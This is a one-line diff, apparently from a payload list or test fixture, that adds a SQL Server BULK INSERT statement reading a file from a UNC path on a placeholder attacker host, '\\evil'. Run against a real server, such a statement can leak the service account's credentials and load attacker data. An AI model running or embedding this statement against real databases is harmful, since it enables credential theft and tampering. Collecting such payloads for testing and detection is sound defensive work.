@@ -1,0 +1,1 @@
+bulk insert db.dbo.t from '\\evil\x.csv' with (datafiletype = 'char')
